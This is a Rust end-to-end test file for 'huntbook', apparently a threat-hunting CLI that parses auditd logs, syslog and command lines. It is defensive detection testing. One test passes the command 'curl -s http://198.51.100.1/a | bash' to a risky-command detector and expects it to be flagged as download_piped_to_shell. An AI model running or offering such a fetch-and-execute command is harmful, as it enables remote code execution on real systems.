//! `huntbook auditd`, `huntbook syslog` and `huntbook cmdline` end to end.

use std::process::Command;

fn huntbook(args: &[&str]) -> (i32, String, String) {
    let out = Command::new(env!("CARGO_BIN_EXE_huntbook"))
        .args(args)
        .output()
        .expect("running huntbook");
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

fn data(rel: &str) -> String {
    format!("{}/data/msticpy/testdata/{rel}", env!("CARGO_MANIFEST_DIR"))
}

#[test]
fn auditd_counts_and_process_events() {
    let log = data("auditd_log.txt");
    let (code, out, err) = huntbook(&["auditd", &log, "--view", "counts", "--format", "csv"]);
    assert_eq!(code, 0, "{err}");
    assert!(
        out.starts_with("EventType,count\nUSER_LOGIN,191\nUSER_AUTH,187\nSYSCALL_EXECVE,146\n"),
        "{out}"
    );
    let (code, out, err) = huntbook(&["auditd", &log, "--view", "process", "--format", "ndjson"]);
    assert_eq!(code, 0, "{err}");
    assert_eq!(out.lines().count(), 146);
    assert!(out.contains(
        r#""cmdline":"iptables -w -t security -C OUTPUT -d 168.63.129.16 -p tcp -m conntrack --ctstate INVALID,NEW -j DROP""#
    ));
    let (code, out, err) = huntbook(&["auditd", &log, "--view", "tree", "--format", "ndjson"]);
    assert_eq!(code, 0, "{err}");
    assert_eq!(
        out.lines().count(),
        156,
        "146 processes + 10 inferred parents"
    );
}

#[test]
fn auditd_log_analytics_export_and_malformed_lines() {
    let (code, out, err) = huntbook(&[
        "auditd",
        &data("linux_events.csv"),
        "--event-type",
        "USER_CMD",
        "--format",
        "csv",
    ]);
    assert_eq!(code, 0, "{err}");
    assert_eq!(out.lines().count(), 3, "{out}");
    let dir = std::env::temp_dir().join(format!("huntbook-auditd-cli-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let f = dir.join("audit.log");
    std::fs::write(
        &f,
        "junk line\ntype=LOGIN msg=audit(1.0:1): pid=1 uid=0 ses=4294967295 res=1\n",
    )
    .unwrap();
    let (code, out, err) = huntbook(&["auditd", f.to_str().unwrap(), "--format", "csv"]);
    assert_eq!(code, 0, "{err}");
    assert_eq!(
        err.trim(),
        "huntbook auditd: 1 malformed line(s) skipped (first: line 1: no 'type=' field)"
    );
    assert_eq!(
        out,
        "TimeGenerated,EventType,Computer,mssg_id,pid,uid,ses,res\n\
         1970-01-01T00:00:01.000000000+0000,LOGIN,,1.0:1,1,0,-1,1\n"
    );
    let (code, _, err) = huntbook(&["auditd", "/nonexistent/audit.log"]);
    assert_eq!(code, 1);
    assert!(err.contains("reading '/nonexistent/audit.log'"), "{err}");
    std::fs::remove_dir_all(&dir).ok();
}

#[test]
fn syslog_views() {
    let (code, out, err) = huntbook(&[
        "syslog",
        &data("sudo_session_test.csv"),
        "--view",
        "sessions",
        "--format",
        "csv",
    ]);
    assert_eq!(code, 0, "{err}");
    assert_eq!(out.lines().count(), 6, "{out}");
    assert!(
        out.starts_with("User,TargetUser,Service,Computer,ProcessID,Start,End,DurationSeconds\n")
    );
    let (code, out, err) = huntbook(&[
        "syslog",
        &data("sudo_session_test.csv"),
        "--view",
        "risky",
        "--burst-seconds",
        "60",
        "--burst-count",
        "2",
        "--format",
        "ndjson",
    ]);
    assert_eq!(code, 0, "{err}");
    assert_eq!(out.lines().count(), 4, "{out}");
    assert!(
        out.contains(r#""Rule":"interactive_root_shell","Command":"/bin/bash""#),
        "{out}"
    );
    let (code, out, err) = huntbook(&[
        "syslog",
        &data("syslog_data.csv"),
        "--view",
        "host",
        "--heartbeat",
        &data("host_hb.csv"),
        "--format",
        "csv",
    ]);
    assert_eq!(code, 0, "{err}");
    assert!(
        out.contains("OSName,Ubuntu\n") && out.contains("OSVersion,18.04\n"),
        "{out}"
    );
}

#[test]
fn syslog_raw_text_and_cmdline() {
    let dir = std::env::temp_dir().join(format!("huntbook-syslog-cli-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let f = dir.join("auth.log");
    std::fs::write(
        &f,
        "Jul 10 15:13:25 web01 sudo[7]: bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/usr/bin/id\nnot syslog\n",
    )
    .unwrap();
    let (code, out, err) = huntbook(&[
        "syslog",
        f.to_str().unwrap(),
        "--year",
        "2019",
        "--view",
        "sudo",
        "--format",
        "ndjson",
    ]);
    assert_eq!(code, 0, "{err}");
    assert!(err.contains("1 malformed line(s) skipped"), "{err}");
    assert!(
        out.contains(
            r#""Sudoer":"bob","SudoTo":"root","Command":"/usr/bin/id","CommandCall":"/usr/bin/id""#
        ),
        "{out}"
    );
    std::fs::remove_dir_all(&dir).ok();
    let (code, out, err) = huntbook(&[
        "cmdline",
        "risky",
        "--text",
        "curl -s http://198.51.100.1/a | bash",
        "--text",
        "ls",
        "--format",
        "csv",
    ]);
    assert_eq!(code, 0, "{err}");
    assert_eq!(out.lines().count(), 2, "{out}");
    assert!(out.contains(",download_piped_to_shell,high,"), "{out}");
    let (code, out, err) = huntbook(&[
        "cmdline",
        "bursts",
        &data("sudo_data_speed.csv"),
        "--count",
        "6",
        "--format",
        "ndjson",
    ]);
    assert_eq!(code, 0, "{err}");
    assert_eq!(out.lines().count(), 1, "{out}");
    assert!(out.contains(r#""Commands":6"#), "{out}");
}
